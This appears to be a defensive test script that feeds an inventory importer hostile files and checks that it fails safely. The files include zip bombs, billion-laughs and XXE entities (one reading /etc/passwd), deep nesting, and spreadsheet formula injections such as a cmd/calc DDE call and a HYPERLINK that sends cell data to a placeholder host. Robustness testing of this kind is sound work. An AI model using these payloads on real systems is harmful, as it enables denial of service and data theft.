#!/usr/bin/env python3
"""Registers made to do harm: each gives a sentence that names the place, in bounded memory, and what was good is kept. Writes TAP.

usage: hostile_registers_test.py BIRTHMARK
"""
import csv, io, json, os, pathlib, re, struct, subprocess, sys, tempfile, time, zipfile, zlib

from tap import check, finish

birthmark = str(pathlib.Path(sys.argv[1]).resolve())
kept_while_running = tempfile.TemporaryDirectory(prefix='hostile-')
folder = pathlib.Path(kept_while_running.name)

# What the program, and the document box that it waits for, may have in memory besides the document itself, which is
# mapped: 192 MiB that the box may take at most, as much for what the program knows and thinks, and a little. Measured: 90.
MEMORY_MAX = 400 << 20
SECONDS_MAX = 120   # after which a document counts as one that hangs; none of them needs a tenth of it
SAID_MAX = 16 << 10 # bytes of complaints: they are counted, not repeated without end
GOOD, BAD, KNOWN = 0, 65, (0, 65)
HEAD = 'Name,Brand,Model,MAC\n'
ROW = 'Gate,Axis,P3245-LV,00:0f:7c:00:00:01\n'
is_sanitized = os.environ.get('BIRTHMARK_SANITIZED') == '1'  # shadow memory is no memory of the document's


# Archives, written byte by byte: no library writes what these are

def flushed(chunk):
    """A chunk packed so that it may stand any number of times behind itself."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)


END_OF_DEFLATE = zlib.compressobj(9, zlib.DEFLATED, -15).flush()


def packed(text):
    packer = zlib.compressobj(6, zlib.DEFLATED, -15)
    return packer.compress(text) + packer.flush()


class Entry:
    def __init__(self, name, text=b'', data=None, size=None, flags=0, method=8, crc=None):
        text = text.encode() if isinstance(text, str) else text
        self.name, self.flags, self.method = name.encode(), flags, method
        self.data = packed(text) if data is None else data
        self.size = len(text) if size is None else size
        self.crc = zlib.crc32(text) if crc is None else crc

    def fields(self):
        return struct.pack('<HHHHHIII', 20, self.flags, self.method, 0, 33, self.crc, len(self.data), self.size)

    def local(self):
        fields = struct.pack('<HHHHHIIIHH', 20, self.flags, self.method, 0, 33, self.crc, len(self.data), self.size, len(self.name), 0)
        return b'PK\3\4' + fields + self.name + self.data

    def listed(self, at):
        return b'PK\1\2' + struct.pack('<H', 20) + self.fields() + struct.pack('<HHHHHII', len(self.name), 0, 0, 0, 0, 0, at) + self.name


def archive(entries, places=None):
    """`places`: where each entry says that it begins, when that is a lie."""
    whole, at = b'', []
    for entry in entries:
        at.append(len(whole))
        whole += entry.local()
    listed = b''.join(entry.listed(place) for entry, place in zip(entries, places or at))
    count = min(len(entries), 0xffff)
    return whole + listed + b'PK\5\6' + struct.pack('<HHHHIIH', 0, 0, count, count, len(listed), len(whole), 0)


# Workbooks

MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'


def relations(*targets):
    return ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
            ''.join(f'<Relationship Id="r{i}" Type="{REL}/{kind}" Target="{target}"/>' for i, (kind, target) in enumerate(targets)) +
            '</Relationships>')


def cell(ref, text):
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def row(number, *texts):
    return f'<row r="{number}">' + ''.join(cell(chr(65 + i) + str(number), text) for i, text in enumerate(texts)) + '</row>'


HEADINGS = row(1, 'Name', 'Brand', 'Model', 'MAC')
GATE = row(2, 'Gate', 'Axis', 'P3245-LV', '00:0f:7c:00:00:01')


def sheet(rows, before='', after=''):
    return f'{before}<worksheet {MAIN}><sheetData>{rows}</sheetData>{after}</worksheet>'


def book(*sheets, strings=None, styles=None, workbook=None, more=()):
    """A workbook whose sheets are called S1, S2 and so on; a sheet is its XML, or an Entry."""
    named = ''.join(f'<sheet name="S{i + 1}" sheetId="{i + 1}" r:id="r{i}"/>' for i in range(len(sheets)))
    targets = [('worksheet', f'worksheets/sheet{i + 1}.xml') for i in range(len(sheets))]
    entries = [Entry('_rels/.rels', relations(('officeDocument', 'xl/workbook.xml'))),
               Entry('xl/workbook.xml', workbook or f'<workbook {MAIN} xmlns:r="{REL}"><sheets>{named}</sheets></workbook>')]
    for kind, text in (('sharedStrings', strings), ('styles', styles)):
        if text is not None:
            targets.append((kind, f'{kind}.xml'))
            entries.append(Entry(f'xl/{kind}.xml', text))
    entries.append(Entry('xl/_rels/workbook.xml.rels', relations(*targets)))
    for i, text in enumerate(sheets):
        entries.append(text if isinstance(text, Entry) else Entry(f'xl/worksheets/sheet{i + 1}.xml', text))
    return archive(entries + list(more))


def bomb_entry(name, chunk, times, declared=None, before=b'', after=b''):
    """One part of `times` chunks, of which each stands packed once behind the other."""
    data = flushed(before) + flushed(chunk) * times + flushed(after) + END_OF_DEFLATE
    return Entry(name, data=data, size=declared if declared is not None else (len(chunk) * times) & 0xffffffff, crc=0)


OPENED = f'<worksheet {MAIN}><sheetData>{HEADINGS}{GATE}'.encode()
LAUGHS = '<!DOCTYPE w [<!ENTITY a "haha">' + ''.join(
    f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(20)) + ']>'
OUTSIDE = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


def written(path, make):
    """Writes the document, in a process of its own: a child begins as large as who starts it, and its memory is measured.

    A document is text, bytes, or pieces: bytes, and numbers of bytes that are not there.
    """
    maker = os.fork()
    if maker:
        assert os.waitpid(maker, 0)[1] == 0
        return
    made = make()
    with open(path, 'wb') as file:
        for piece in made if isinstance(made, list) else [made]:
            if isinstance(piece, int):
                file.seek(piece, os.SEEK_CUR)
            else:
                file.write(piece.encode() if isinstance(piece, str) else piece)
        file.truncate(file.tell())
    os._exit(0)


def million_sheets():
    named = ''.join(f'<sheet name="S{i}" sheetId="{i}" r:id="r0"/>' for i in range(1000000))
    return book(sheet(HEADINGS + GATE), workbook=f'<workbook {MAIN} xmlns:r="{REL}"><sheets>{named}</sheets></workbook>')


def overlapping():
    """Many parts that are all the same bytes: each listed entry points at one and the same place."""
    kernel = bomb_entry('xl/worksheets/sheet1.xml', b' ' * (1 << 20), 12, before=OPENED)
    entries = [Entry('_rels/.rels', relations(('officeDocument', 'xl/workbook.xml'))),
               Entry('xl/workbook.xml', f'<workbook {MAIN} xmlns:r="{REL}"><sheets>' + ''.join(
                   f'<sheet name="S{i}" sheetId="{i}" r:id="r{i}"/>' for i in range(200)) + '</sheets></workbook>'),
               Entry('xl/_rels/workbook.xml.rels', relations(*[('worksheet', f'worksheets/s{i}.xml') for i in range(200)]))]
    at = sum(len(e.local()) for e in entries)
    aliases = []
    for i in range(200):
        alias = bomb_entry(f'xl/worksheets/s{i}.xml', b' ' * (1 << 20), 12, before=OPENED)
        aliases.append(alias)
    whole = b''.join(e.local() for e in entries) + kernel.local()
    places, place = [], 0
    for e in entries:
        places.append(place)
        place += len(e.local())
    listed = b''.join(e.listed(p) for e, p in zip(entries, places)) + b''.join(a.listed(at) for a in aliases)
    count = len(entries) + len(aliases)
    return whole + listed + b'PK\5\6' + struct.pack('<HHHHIIH', 0, 0, count, count, len(listed), len(whole), 0)


def nested():
    inner = book(sheet(HEADINGS + GATE))
    for _ in range(20):
        inner = archive([Entry('inner.zip', inner)])
    return inner


def encrypted():
    whole = bytearray(book(sheet(HEADINGS + GATE)))
    for sign, at in ((b'PK\3\4', 6), (b'PK\1\2', 8)):
        place = whole.find(sign)
        while place >= 0:
            whole[place + at] |= 1
            place = whole.find(sign, place + 4)
    return bytes(whole)


def shared(count, text, cells, rows_count):
    """One long text, named by very many cells: little comes in, much goes out."""
    strings = f'<sst {MAIN}>' + f'<si><t>{text}</t></si>' * count + '</sst>'
    named = ''.join(f'<c r="{chr(69 + i)}{{}}" t="s"><v>0</v></c>' for i in range(cells))
    rows = ''.join(f'<row r="{n}">' + cell(f'A{n}', f'n{n}') + named.replace('{}', str(n)) + '</row>' for n in range(3, rows_count + 3))
    headings = HEADINGS.replace('</row>', ''.join(cell(f'{chr(69 + i)}1', f'h{i}') for i in range(cells)) + '</row>')
    return book(sheet(headings + GATE + rows), strings=strings)


def nmap(inner, before=''):
    return f'<?xml version="1.0"?>{before}<nmaprun>{inner}</nmaprun>'


HOST = ('<host><status state="up"/><address addr="10.0.0.9" addrtype="ipv4"/><address addr="00:0F:7C:00:00:09" addrtype="mac"/>'
        '<hostnames><hostname name="Gate"/></hostnames></host>')
J = '{"name":"Gate","brand":"Axis","model":"P3245-LV"}\n'

# name, suffix, what makes the document, exit codes that will do, what the complaint says, is the good row kept
CASES = [
    # Archives
    ('a part that unpacks to four gigabytes', 'xlsx',
     lambda: book(bomb_entry('xl/worksheets/sheet1.xml', b' ' * (1 << 20), 4096, before=OPENED)), BAD,
     r'sheet S1, (cell|row) \S+.*unpacks to more than 200 times|all parts together unpack', True),
    ('shared texts that unpack to four gigabytes', 'xlsx',
     lambda: bomb_strings(), BAD, r'shared texts|all parts together', True),
    ('an archive in an archive, twenty times', 'xlsx', nested, BAD, r'has no workbook in it', False),
    ('100,000 entries', 'xlsx', lambda: archive([Entry(f'p{i}', data=b'', method=0) for i in range(100000)]), BAD,
     r'more than 4,096 parts', False),
    ('a declared size of 4 GiB', 'xlsx',
     lambda: book(Entry('xl/worksheets/sheet1.xml', sheet(HEADINGS + GATE), size=0xfffffffe)), BAD, r'sheet S1, .*wrong size', False),
    ('200 parts that are the same bytes', 'xlsx', overlapping, BAD, r'not in the archive', None),
    ('encrypted', 'xlsx', encrypted, BAD, r'encrypted', False),
    ('cut in the middle', 'xlsx', lambda: book(sheet(HEADINGS + GATE * 1))[:-60], BAD, r'cut short|damaged', True),
    ('cut in its first part', 'xlsx', lambda: book(sheet(HEADINGS + GATE))[:40], BAD, r'damaged|cut short', False),
    ('packed in a way that no workbook is', 'xlsx',
     lambda: book(Entry('xl/worksheets/sheet1.xml', sheet(HEADINGS + GATE), method=12)), BAD, r'S1.*packed|S1.*damaged|S1', False),
    ('a part that is named in no archive', 'xlsx',
     lambda: book(sheet(HEADINGS + GATE), Entry('xl/worksheets/elsewhere.xml', 'x')), BAD, r'sheet S2: .*not in the archive', True),
    # XML
    ('a billion laughs in a sheet', 'xlsx',
     lambda: book(sheet(HEADINGS + GATE), sheet(row(1, '&j;'), before=LAUGHS)), BAD, r'sheet S2, \S+ \S+: .*document type of its own', True),
    ('a billion laughs in the shared texts', 'xlsx',
     lambda: book(sheet(HEADINGS + GATE), strings=f'{LAUGHS}<sst><si><t>&j;</t></si></sst>'), BAD, r'shared texts are damaged', True),
    ('a billion laughs in the workbook', 'xlsx',
     lambda: book(sheet(HEADINGS), workbook=f'{LAUGHS}<workbook><sheets>&j;</sheets></workbook>'), BAD, r'.', False),
    ('an entity from outside', 'xlsx',
     lambda: book(sheet(HEADINGS + GATE), sheet(row(1, '&x;'), before=OUTSIDE)), BAD, r'sheet S2.*document type', True),
    ('elements 100,000 deep', 'xlsx',
     lambda: book(sheet(HEADINGS + GATE + '<row r="3"><c r="A3">' + '<x>' * 100000)), BAD, r'sheet S1, cell A3: .*64 deep', True),
    ('an attribute of 40 MiB', 'xlsx',
     lambda: book(sheet(HEADINGS + GATE + '<row r="3" x="' + 'abcdefghijklmnop' * (40 << 16) + '"/>')), BAD, r'S1.*(more than 1 MiB|200 times)', True),
    ('100,000 attributes', 'xlsx',
     lambda: book(sheet(HEADINGS + GATE + '<row r="3"' + ''.join(f' a{i}=""' for i in range(100000)) + '/>')), KNOWN, None, True),
    ('NUL in a sheet', 'xlsx', lambda: book(sheet(HEADINGS + GATE + row(3, 'a\0b'))), BAD, r'sheet S1, cell A3', True),
    ('broken UTF-8 in a sheet', 'xlsx',
     lambda: book(sheet(HEADINGS + GATE).encode() [:-len('</sheetData></worksheet>')] + b'<row r="3">\xff\xfe'), BAD, r'sheet S1', True),
    # Sheets
    ('a million sheets', 'xlsx', million_sheets, BAD, r'more than 256 sheets|200 times', None),
    ('16,384 columns', 'xlsx',
     lambda: book(sheet(HEADINGS + GATE + ''.join(
         f'<row r="{n}">' + '<c t="str"><v>x</v></c>' * 16384 + '</row>' for n in range(3, 40)))), BAD,
     r'sheet S1, cell ALN3: .*more than 1,024 columns|1,024 columns', True),
    ('a column beyond all', 'xlsx', lambda: book(sheet(HEADINGS + GATE + '<row r="3">' + cell('XFE3', 'x') + '</row>')), BAD,
     r'sheet S1, cell XFE3: .*16,384 columns', True),
    ('rows numbered 2^31, 2^32, 0 and -1', 'xlsx',
     lambda: book(sheet(HEADINGS + GATE + ''.join(f'<row r="{n}">{cell("A9", "x")}</row>' for n in (2**31, 2**32, 2**64, 0, -1)))), BAD,
     r'sheet S1.*1,048,576 rows', True),
    ('cells and rows out of order', 'xlsx',
     lambda: book(sheet(HEADINGS + row(9, 'Late', 'Axis') + '<row r="2">' + cell('D2', '00:0f:7c:00:00:01') + cell('A2', 'Gate') +
                        cell('C2', 'P3245-LV') + '</row>')), GOOD, None, True),
    ('a cell that comes twice', 'xlsx', lambda: book(sheet(HEADINGS + '<row r="2">' + cell('A2', 'Door') + cell('A2', 'Gate') + '</row>')), GOOD, None, True),
    ('a shared text that there is not', 'xlsx',
     lambda: book(sheet(HEADINGS + GATE + '<row r="3"><c r="A3" t="s"><v>99999999999999999999</v></c><c r="B3" t="s"><v>-1</v></c></row>'),
                  strings=f'<sst {MAIN}><si><t>a</t></si></sst>'), BAD, r'sheet S1, cell A3: .*shares', True),
    ('a style that there is not', 'xlsx',
     lambda: book(sheet(HEADINGS + GATE + '<row r="3"><c r="A3" s="4294967295"><v>1</v></c></row>')), GOOD, None, True),
    ('numbers like no other', 'xlsx',
     lambda: book(sheet(HEADINGS + GATE + '<row r="3">' + ''.join(
         f'<c r="{c}3"><v>{v}</v></c>' for c, v in zip('ABC', ('1e999999', '9' * 30000, '-0x1p-9999'))) + '</row>')), KNOWN, None, True),
    ('100,000 merges that overlap', 'xlsx',
     lambda: book(sheet(HEADINGS + GATE, after='<mergeCells>' + ''.join(
         f'<mergeCell ref="A{i % 50 + 1}:B1048576"/>' for i in range(100000)) + '</mergeCells>')), BAD, r'more than 65,536 cells are merged', True),
    ('a short document that says very much', 'xlsx', lambda: shared(1, 'x' * 32000, 7, 60000), BAD, r'rows say more than 1 GiB', True),
    # Text
    ('one line of 200 MB', 'csv', lambda: [HEAD + ROW] + ['y' * (1 << 20)] * 200, BAD,
     r'\.csv:3:1: .*32 KiB', True),
    ('a quote that is open for a gigabyte', 'csv',
     lambda: [HEAD + ROW + 'a,b,c,\n' * 12000 + '"', 1 << 30], BAD, r'\.csv:12003:1: .*quote', True),
    ('a million quotes that never end', 'csv', lambda: HEAD + ROW + '"a,b\n' * 100001, BAD, r'\.csv:\d+:1: .*quote', True),
    ('broken UTF-8', 'csv', lambda: (HEAD + ROW).encode() + 'Löß,é,ü,ï\n'.encode() * 9 + b'\xff\xfe\xc0\xaf\xed\xa0\x80,x,y,\n', BAD, r'\.csv:12.*no text', True),
    ('lone halves of UTF-16 pairs', 'csv',
     lambda: b'\xff\xfe' + (HEAD + ROW).encode('utf-16-le') + b'\x00\xd8,\x00x\x00,\x00\x00\xdc,\x00\n\x00', BAD, r'\.csv:3.*no text', True),
    ('NULs', 'csv', lambda: HEAD + ROW + 'a\0b,\0,c,\n', BAD, r'\.csv:3.*no text', True),
    ('16,384 columns of text', 'csv', lambda: HEAD + ROW + (',x' * 16384 + '\n') * 40, BAD, r'\.csv:3.*1,024 columns', True),
    ('a cell of 100 KB in 30 rows', 'csv', lambda: HEAD + ROW + ('n,' + 'b' * 100000 + ',c,\n') * 30, BAD, r'\.csv:3.*32 KiB', True),
    ('nothing but wrong cells', 'csv', lambda: HEAD + ROW + 'n,b,m,no address\n' * 20000, BAD, r'\.csv:3:4: this is no MAC', True),
    ('nothing but separators', 'csv', lambda: HEAD + ROW + ';,\t|' * 300000, KNOWN, None, True),
    # JSON
    ('JSON 100,000 deep', 'json', lambda: J + '{"name":' + '[' * 100000 + '\n' + '{"a":' * 100000, BAD, r'\.json:2', True),
    ('numbers without end', 'json', lambda: J + '{"name":"n","model":' + '9' * 100000 + '}\n{"name":"m","model":1e999999999}\n', BAD, r'\.json:2.*32 KiB', True),
    ('lone surrogates', 'json', lambda: J + r'{"name":"\ud800x","model":"\udc00\udc00"}' + '\n', KNOWN, None, True),
    ('one key a thousand times', 'json', lambda: J + '{' + ','.join('"name":"x"' for _ in range(100000)) + '}\n', KNOWN, None, True),
    ('100,000 keys', 'json', lambda: J + '{' + ','.join(f'"k{i}":"x"' for i in range(100000)) + '}\n', BAD, r'1,024 keys', True),
    ('an array that never ends', 'json', lambda: '[' + J.strip() + ',' + '{"name":"x', BAD, r'\.json.*cut short', True),
    ('a text of 20 MB', 'json', lambda: J + '{"name":"' + 'x' * (20 << 20) + '"}\n', BAD, r'\.json:2.*32 KiB', True),
    # nmap
    ('a billion laughs in a scan', 'xml', lambda: nmap(HOST + '&j;', before=LAUGHS.replace('DOCTYPE w', 'DOCTYPE nmaprun')), BAD,
     r'\.xml:1.*document type', False),
    ('an entity from outside in a scan', 'xml', lambda: nmap(HOST + '&x;', before=OUTSIDE.replace('DOCTYPE w', 'DOCTYPE nmaprun')), BAD,
     r'\.xml:1.*document type', False),
    ('an entity that nobody declared', 'xml', lambda: nmap('\n' + HOST + '\n&zzz;'), BAD, r'\.xml:3.*undefined entity', True),
    ('a scan cut short', 'xml', lambda: nmap(HOST + '\n<host><status state="up"')[:-11], BAD, r'\.xml:2', True),
    ('a scan 10,000 deep', 'xml', lambda: nmap(HOST + '\n' + '<host>' * 10000), BAD, r'\.xml:2.*64 deep', True),
    ('100,000 ports of one host', 'xml',
     lambda: nmap(HOST + HOST.replace('</host>', '<ports>' + '<port protocol="tcp" portid="1"><state state="open"/></port>' * 100000 + '</ports></host>')),
     KNOWN, None, True),
]


def bomb_strings():
    entries = [Entry('_rels/.rels', relations(('officeDocument', 'xl/workbook.xml'))),
               Entry('xl/workbook.xml', f'<workbook {MAIN} xmlns:r="{REL}"><sheets><sheet name="S1" sheetId="1" r:id="r0"/></sheets></workbook>'),
               Entry('xl/_rels/workbook.xml.rels', relations(('worksheet', 'worksheets/sheet1.xml'), ('sharedStrings', 'sharedStrings.xml'))),
               bomb_entry('xl/sharedStrings.xml', b'<si><t>' + b'a' * (1 << 20) + b'</t></si>', 4096, before=b'<sst>'),
               Entry('xl/worksheets/sheet1.xml', sheet(HEADINGS + GATE))]
    return archive(entries)


def measured(arguments):
    """(exit code, what it wrote to either, most memory in bytes): the document box counts, for the program waits for it."""
    out, err = folder / 'out', folder / 'err'
    with open(out, 'wb') as to_out, open(err, 'wb') as to_err:
        child = subprocess.Popen([birthmark, *map(str, arguments)], stdout=to_out, stderr=to_err, cwd=folder)
    until = time.monotonic() + SECONDS_MAX
    while time.monotonic() < until:
        pid, status, usage = os.wait4(child.pid, os.WNOHANG)
        if pid:
            child.returncode = os.waitstatus_to_exitcode(status)
            return child.returncode, out.read_bytes(), err.read_bytes().decode('utf-8', 'replace'), usage.ru_maxrss << 10
        time.sleep(0.005)
    child.kill()
    child.wait()
    return 'hangs', b'', err.read_bytes().decode('utf-8', 'replace'), 0


def kept(estate):
    if not estate.exists():
        return []
    code, out, err, _ = measured(['devices', '--json', '--estate', estate])
    return [json.loads(line)['device'] for line in out.decode().splitlines()] if code == 0 else f'{code}: {err}'


def try_one(number, name, suffix, make, want, says, has_gate):
    path = folder / f'case{number}.{suffix}'
    written(path, make)
    estate = folder / f'case{number}.db'
    code, out, err, memory = measured(['import', path.name, '--estate', estate.name, '--json', '--quiet'])
    allowed = want if isinstance(want, tuple) else (want,)
    check(code in allowed, f'{name}: exit {code}', err[:1500])
    check(says is None or re.search(says, err, re.S), f'{name}: it is said, with its place', err[:1500])
    check(len(err) < SAID_MAX and '\x1b' not in err and '\0' not in err, f'{name}: not without end, and nothing steers the terminal', len(err))
    if not is_sanitized:
        most = MEMORY_MAX + path.stat().st_size
        check(memory < most, f'{name}: memory', f'{memory >> 20} MiB of at most {most >> 20} MiB')
        print(f'# {memory >> 20} MiB')
    if has_gate is not None:
        there = kept(estate)
        check(('Gate' in there) == has_gate, f'{name}: what was good is {"kept" if has_gate else "not there"}', str(there)[:500])
    for used in folder.glob(f'case{number}.*'):
        used.unlink()


def test_cases(wanted):
    for number, case in enumerate(CASES):
        if not wanted or wanted in case[0]:
            try_one(number, *case)


# Formulas

FORMULAS = ["=cmd|' /C calc'!A0", '@SUM(1+1)*cmd', '+1+cmd', '-2+3', '\t=1+1', '\uff1d1+1', '=HYPERLINK("http://x/?"&A1)']
STEERS = re.compile('^[\\s]*[=+\\-@\\t\\r\uff1d\uff0b\uff0d\uff20]')


def test_formulas():
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(['Name', 'Brand', 'Model', 'Site', 'Contract', 'Supplier', 'Note'])
    for i, formula in enumerate(FORMULAS):
        writer.writerow([f'{formula}{i}', formula, formula, formula, formula, formula, formula])
    (folder / 'formulas.csv').write_text(out.getvalue(), encoding='utf-8')
    formulas = ''.join(f'<row r="{n}"><c r="A{n}" t="str"><f>cmd|\'/C calc\'!A0</f><v>{v}</v></c></row>' for n, v in ((2, '=1+1x'), (3, 'kept')))
    (folder / 'formulas.xlsx').write_bytes(book(sheet(HEADINGS + formulas)))
    code, out, err, _ = measured(['import', 'formulas.csv', 'formulas.xlsx', '--estate', 'f.db', '--quiet'])
    check(code == GOOD, 'formulas are texts', err)
    names = kept(folder / 'f.db')
    check("=cmd|' /C calc'!A00" in names and '=1+1x' in names and 'kept' in names, 'and stay as they are', names)
    code, out, err, _ = measured(['report', '--format', 'csv', '--estate', 'f.db'])
    cells = [(c, v) for r in csv.DictReader(io.StringIO(out.decode('utf-8-sig'), newline='')) for c, v in r.items() if STEERS.match(v or '')]
    check(code == GOOD and not cells, 'in CSV none begins a cell', cells[:5])
    code, out, err, _ = measured(['report', '--format', 'xlsx', '--output', 'f.xlsx', '--estate', 'f.db'])
    parts = zipfile.ZipFile(folder / 'f.xlsx') if code == GOOD else None
    text = ''.join(parts.read(n).decode() for n in parts.namelist() if n.endswith('.xml')) if parts else ''
    check(text and '<f>' not in text, 'a workbook has no formula', err)
    starts = [t for t in re.findall(r'<t[^>]*>([^<]*)</t>', text) if STEERS.match(t)]
    check(not starts, 'and no text that becomes one', starts[:5])


test_formulas()
test_cases(sys.argv[2] if len(sys.argv) > 2 else '')
finish()
